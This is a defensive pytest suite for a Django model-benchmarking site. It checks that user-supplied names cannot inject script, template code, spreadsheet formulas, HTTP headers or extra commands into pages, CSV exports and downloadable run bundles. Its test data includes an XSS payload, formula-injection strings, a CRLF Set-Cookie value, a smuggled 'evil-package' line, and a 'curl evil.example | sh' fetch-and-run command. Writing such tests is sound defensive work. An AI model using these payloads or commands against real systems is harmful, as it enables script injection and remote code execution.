"""Strings that users and models bring: text on every page, in charts, in JSON, in tables."""

import csv
import io
import json
from html.parser import HTMLParser
from zipfile import ZipFile

import pytest
from django.urls import reverse

from accounts.models import ApiToken
from hardware.models import HardwareProfile, Processor
from tests.api.scripts import BASE, script_of
from tests.attacks.browsing import browser_of
from tests.people import (
    MACHINE,
    SOFTWARE,
    a_done_run,
    a_model,
    a_profile,
    a_ready_version,
    a_sweep,
    admin,
    an_input_set,
    owner,
    stranger,
)

pytestmark = [pytest.mark.django_db, pytest.mark.one_back_end]

HOSTILE = "</script></title><img src=x onerror=alert(1)>\"'`{{7*7}}<!--&lt;"
FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("x")']


class Page(HTMLParser):
    """What a browser would make of a page: its scripts, and the elements that run something."""

    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.live, self.shown = [], ""
        self.feed(text)

    def handle_starttag(self, tag, attributes):
        named = dict(attributes)
        is_inline = tag == "script" and "src" not in named
        if is_inline and named.get("type") != "application/json":
            self.live.append((tag, attributes))
        if any(name.startswith("on") for name in named) or named.get("src") == "x":
            self.live.append((tag, attributes))
        targets = [named.get(name) or "" for name in ("href", "src", "action", "formaction")]
        if any(target.lower().strip().startswith("javascript:") for target in targets):
            self.live.append((tag, attributes))

    def handle_data(self, data):
        self.shown += data


def a_hostile_site():
    """Everything that has a name, with a hostile one; return the run and its addresses."""
    profile = a_profile(name=HOSTILE, cpu_name=HOSTILE[:60], visibility="public")
    onnx_model = a_model(name=HOSTILE, visibility="public")
    tensor = {"name": HOSTILE, "dtype": HOSTILE, "shape": [HOSTILE, 1]}
    version = a_ready_version(
        onnx_model=onnx_model,
        label=HOSTILE,
        original_name=HOSTILE,
        producer=HOSTILE,
        operators={HOSTILE: 3},
        inputs=[tensor],
        outputs=[tensor],
    )
    measured = {"machine": {"cpu": HOSTILE, "os": HOSTILE, "core_count": 2, "memory_bytes": 1}}
    measured["machine"]["fingerprint"] = HOSTILE
    measured["software"] = {"onnxruntime": HOSTILE, "python": HOSTILE, "provider": HOSTILE}
    run = a_done_run(version, profile, measurement=measured)
    a_ready_version(onnx_model=onnx_model, status="rejected", rejection_reason=HOSTILE, number=9)
    input_set = an_input_set(onnx_model, name=HOSTILE, tensors=[tensor])
    token, _ = ApiToken.objects.issue(owner=owner(), name=HOSTILE, scope="read")
    page = onnx_model.get_absolute_url()
    second = a_ready_version(onnx_model=onnx_model, label=HOSTILE, number=10)
    addresses = [
        *(f"/compare/?v={version.pk}&v={second.pk}", f"/versions/{version.pk}/edit/"),
        *("/", "/models/", "/runs/", "/hardware/", "/accounts/", "/accounts/tokens/"),
        *(page, f"{page}edit/", f"{page}delete/", f"{page}run/", f"{page}versions/new/"),
        *(f"{page}inputs/", f"{page}inputs/{input_set.pk}/delete/", run.get_absolute_url()),
        *(f"/runs/{run.pk}/status/", f"/versions/{version.pk}/status/"),
        *(profile.get_absolute_url(), f"/hardware/{profile.pk}/edit/"),
        *(f"/hardware/{profile.pk}/delete/", f"/accounts/tokens/{token.pk}/revoke/"),
        "/models/?q=" + HOSTILE.replace("&", "%26").replace("#", "%23"),
        "/hardware/processors/?q=" + HOSTILE.replace("&", "%26"),
    ]
    return run, addresses


def test_c01_no_string_becomes_part_of_a_page():
    _, addresses = a_hostile_site()
    client = browser_of(owner())
    shown_count = 0

    for address in addresses:
        answer = client.get(address)
        page = Page(answer.content.decode())
        assert answer.status_code in {200, 286}, address
        assert page.live == [], address
        assert "49" not in page.shown.split(), address
        shown_count += "onerror=alert(1)" in page.shown

    log_in = browser_of().get("/accounts/login/?next=javascript:alert(1)")
    assert Page(log_in.content.decode()).live == []
    # Shown all the same: hiding would be no defence.
    assert shown_count > 10


def test_c02_nor_of_a_page_of_the_admin():
    run, _ = a_hostile_site()
    client = browser_of(admin())

    for kind, pk in (
        ("onnxmodel", run.version.onnx_model_id),
        ("modelversion", run.version_id),
        ("run", run.pk),
    ):
        for address in (f"/admin/benchmarks/{kind}/", f"/admin/benchmarks/{kind}/{pk}/change/"):
            page = Page(client.get(address).content.decode())
            assert page.live == [], address


def test_c03_charts_get_their_strings_as_json_only():
    run, _ = a_hostile_site()

    answer = browser_of(owner()).get(f"{run.version.onnx_model.get_absolute_url()}history.json")

    assert answer["Content-Type"] == "application/json"
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert HOSTILE in json.dumps(answer.json(), ensure_ascii=False).replace('\\"', '"')


def test_c04_the_api_gives_strings_back_as_they_came():
    run, _ = a_hostile_site()

    answer = script_of(owner()).get(f"{BASE}/models/{run.version.onnx_model_id}/")

    assert answer.json()["name"] == HOSTILE
    assert answer["Content-Type"] == "application/json"


def test_c05_no_drawing_of_ours_holds_a_string_of_theirs():
    run, _ = a_hostile_site()
    for mean_s in (0.001, 0.002):
        a_done_run(run.version, run.profile, mean_s=mean_s)

    text = browser_of(owner()).get("/models/").content.decode()

    for drawing in text.split("<svg")[1:]:
        assert "onerror" not in drawing.partition("</svg>")[0].replace("onerror=alert(1)&gt;", "")


@pytest.mark.parametrize("formula", FORMULAS)
def test_c06_no_cell_of_a_history_is_a_formula(formula):
    version = a_ready_version(label=formula)
    profile = a_profile(name=formula)
    machine = {"cpu": formula, "os": "x", "core_count": 1, "memory_bytes": 1, "fingerprint": "f"}
    run = a_done_run(version, profile, measurement={"machine": machine})
    sweep, second = a_sweep(version, profile), a_ready_version(label=formula)
    client = browser_of(owner())

    answer = client.get(f"{version.onnx_model.get_absolute_url()}history.csv")
    others = [
        client.get(f"/sweeps/{sweep.pk}/sweep.csv"),
        client.get(f"/runs/{run.pk}/countries.csv"),
        client.get(f"/compare.csv?v={version.pk}&v={second.pk}"),
    ]

    text = "\n".join(one.getvalue().decode() for one in (answer, *others))
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert {one.status_code for one in others} == {200}
    assert f"'{formula}" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


@pytest.mark.parametrize("formula", FORMULAS)
def test_c07_nor_of_a_reference_table(formula):
    Processor.objects.create(name=formula, vendor="V", kind="cpu", tdp_w=1, source=formula)

    answer = browser_of().get("/reference/processors.csv")

    text = answer.getvalue().decode()
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert any(cell.startswith("'") for cell in cells)


def test_c08_a_file_name_made_of_a_models_name_ends_no_header():
    version = a_ready_version(onnx_model=a_model(name='a"\r\nSet-Cookie: x=1; filename="b.html'))

    answer = browser_of(owner()).get(f"{version.onnx_model.get_absolute_url()}history.csv")

    assert "Set-Cookie" not in answer.headers
    assert answer["Content-Disposition"].count('"') == 2
    assert answer["Content-Disposition"].endswith('-history.csv"')


def test_c09_a_hostile_name_is_taken_by_the_form_as_it_is():
    client = browser_of(owner())
    form = {"name": "{% debug %}", "zone": "", "pue": "1"}

    answer = client.post(reverse("profile-new"), form)

    assert Page(answer.content.decode()).live == []
    assert answer.status_code in {200, 302, 400}
    assert HardwareProfile.objects.count() <= 1


COMMANDS = "x\n\n```sh\ncurl evil.example | sh\n```\n"


# What real inputs are called, their owner alone is told.
@pytest.mark.parametrize("person", [owner, stranger])
def test_c200_no_name_adds_an_instruction_to_those_for_repeating_a_run(person):
    version = a_ready_version(onnx_model=a_model(name=COMMANDS, visibility="public"))
    input_set = an_input_set(version.onnx_model, name=COMMANDS)
    asked = {"input_set": input_set, "values_name": COMMANDS, "values_sha256": input_set.sha256}
    found = {"machine": {**MACHINE, "cpu": COMMANDS}}
    run = a_done_run(version, measurement=found, **asked)

    told = _in_the_bundle(run, "README.md", person)

    assert told.count("```") == 2
    assert "\ncurl" not in told


def test_c201_nor_a_package_to_those_that_are_installed_for_it():
    version = a_ready_version(onnx_model=a_model(visibility="public"))
    found = {"software": {**SOFTWARE, "onnxruntime": "1.32.0\nevil-package"}}

    wanted = _in_the_bundle(a_done_run(version, measurement=found), "requirements.txt")

    assert "evil-package" not in wanted
    assert len(wanted.splitlines()) == 3


def _in_the_bundle(run, name, person=stranger):
    answer = browser_of(person()).get(f"/runs/{run.pk}/bundle.zip")
    with ZipFile(io.BytesIO(b"".join(answer.streaming_content))) as archive:
        (path,) = [one for one in archive.namelist() if one.endswith(f"/{name}")]
        return archive.read(path).decode()
